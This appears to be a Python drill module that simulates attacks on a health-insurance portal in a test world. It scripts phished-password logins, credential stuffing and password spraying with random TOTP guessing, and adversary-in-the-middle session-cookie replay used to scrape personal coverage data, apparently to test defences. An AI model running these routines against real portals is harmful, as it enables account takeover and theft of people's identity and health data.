"""Attacks through the portal: S1 (password only), S2 (stuffing and spraying from many
addresses), S3 (adversary in the middle: a full session taken after the victim's TOTP and
replayed from elsewhere, scraping fast)."""

from __future__ import annotations

import datetime as dt
from collections.abc import AsyncIterator

import httpx
import pyotp

from rempart.drill.agents import BROWSER_AGENT, csrf_of, portal_password_login
from rempart.drill.attack_base import AttackContext, retry_after
from rempart.drill.clocks import pause
from rempart.drill.truth import Person

COMMON_PASSWORDS = ("123456", "azerty", "motdepasse", "Pharmacie2024!", "soleil",
                    "password1", "Officine2025", "doudou")


async def _portal_check(ctx: AttackContext, http: httpx.AsyncClient, person: Person,
                        account: str) -> int:
    page = await http.get("/portal/check")
    if page.status_code != 200:
        return ctx.record(page, person=person, account=account, disclosed=False)
    fields = {"csrf_token": csrf_of(page), "category": "pharmacy",
              "care_date": ctx.world.clock.now().date().isoformat(), "nir": person.nir,
              "birth_date": person.birth_date.isoformat(), "birth_rank": str(person.birth_rank),
              "amc_number": person.amc_number, "member_number": person.member_number}
    answer = await http.post("/portal/check", data=fields, headers={"origin": ctx.origin})
    covered = answer.status_code == 200 and 'class="card answer covered"' in answer.text
    return ctx.record(answer, person=person, account=account, disclosed=covered)


async def s1_password_only(ctx: AttackContext, *, accounts: int = 3,
                           per_account: int = 20) -> AsyncIterator[dt.datetime]:
    """Phished passwords, no second factor: log in, then try to check anyway."""
    moment = ctx.start
    targets = ctx.identities(accounts * per_account)
    for n, victim in enumerate(ctx.victims[:accounts]):
        yield moment
        http = ctx.world.endpoint.client(address=ctx.address(n), agent=BROWSER_AGENT)
        try:
            login = await portal_password_login(http, ctx.origin, login=victim.email,
                                                password=victim.password)
            ctx.record(login, person=None, account=victim.email, disclosed=False)
            for person in targets[n * per_account:(n + 1) * per_account]:
                moment = ctx.world.clock.now() + dt.timedelta(seconds=5)
                yield moment
                await _portal_check(ctx, http, person, victim.email)
        finally:
            await http.aclose()


async def s2_stuffing(ctx: AttackContext, *, attempts: int = 150, addresses: int = 40,
                      reused_share: float = 0.3) -> AsyncIterator[dt.datetime]:
    """Leaked e-mail/password pairs (a share reused on rempart) and common passwords,
    sprayed from many addresses; when a password works, guess the TOTP code."""
    pairs = [(v.email, v.password if ctx.rng.random() < reused_share else "Fuite-2024!")
             for v in ctx.victims]
    pairs += [(f"inconnu{n}@officine.example", ctx.rng.choice(COMMON_PASSWORDS))
              for n in range(20)]
    moment = ctx.start
    for n in range(attempts):
        email, password = pairs[n % len(pairs)] if n < len(pairs) else (
            ctx.rng.choice(pairs)[0], ctx.rng.choice(COMMON_PASSWORDS))
        yield moment
        http = ctx.world.endpoint.client(address=ctx.address(n % addresses),
                                         agent=BROWSER_AGENT)
        try:
            login = await portal_password_login(http, ctx.origin, login=email, password=password)
            status = ctx.record(login, person=None, account=email, disclosed=False)
            pause = 3.0
            if status == 429:
                pause = retry_after(login)
            elif login.headers.get("location") == "/portal/second-factor":
                await _guess_totp(ctx, http, email)
        finally:
            await http.aclose()
        moment = ctx.world.clock.now() + dt.timedelta(seconds=pause)


async def _guess_totp(ctx: AttackContext, http: httpx.AsyncClient, email: str) -> None:
    for _ in range(3):
        page = await http.get("/portal/second-factor")
        code = f"{ctx.rng.randrange(1_000_000):06d}"
        answer = await http.post("/portal/second-factor/totp", data={
            "csrf_token": csrf_of(page), "code": code}, headers={"origin": ctx.origin})
        ctx.record(answer if answer.status_code != 303 else httpx.Response(200),
                   person=None, account=email, disclosed=False)
        if answer.status_code == 303:
            for person in ctx.identities(20):
                await _portal_check(ctx, http, person, email)
            return


async def s3_aitm(ctx: AttackContext, *, accounts: int = 2, pace_s: float = 2.0,
                  targets: int = 400) -> AsyncIterator[dt.datetime]:
    """The victim signs in with TOTP through the attacker's proxy; the proxy keeps the
    session and device cookies and replays them from another network with the victim's
    browser string, scraping as fast as it can; on refusal it phishes the next victim."""
    identities = ctx.identities(targets)
    moment = ctx.start
    for n, victim in enumerate(ctx.victims[:accounts]):
        yield moment
        cookies = await _victim_signs_in(ctx, victim.email, victim.password,
                                         victim.totp_secret, address=f"10.9.0.{n + 1}")
        http = ctx.world.endpoint.client(address=ctx.address(100 + n), agent=BROWSER_AGENT)
        http.cookies = cookies
        try:
            while identities:
                moment = ctx.world.clock.now() + dt.timedelta(seconds=pace_s)
                yield moment
                status = await _portal_check(ctx, http, identities[0], victim.email)
                identities.pop(0)
                if status in (401, 403, 423):
                    break
                if status == 429:
                    moment += dt.timedelta(seconds=60)
        finally:
            await http.aclose()
        moment = ctx.world.clock.now() + dt.timedelta(minutes=30)


async def _victim_signs_in(ctx: AttackContext, email: str, password: str, secret: str, *,
                           address: str) -> httpx.Cookies:
    http = ctx.world.endpoint.client(address=address, agent=BROWSER_AGENT)
    try:
        await portal_password_login(http, ctx.origin, login=email, password=password)
        page = await http.get("/portal/second-factor")
        await http.post("/portal/second-factor/totp", data={
            "csrf_token": csrf_of(page), "code": pyotp.TOTP(secret).at(ctx.world.clock.now())},
            headers={"origin": ctx.origin})
        await pause(ctx.world.clock, 31)  # the next TOTP code belongs to a later time step
        return httpx.Cookies(http.cookies)
    finally:
        await http.aclose()
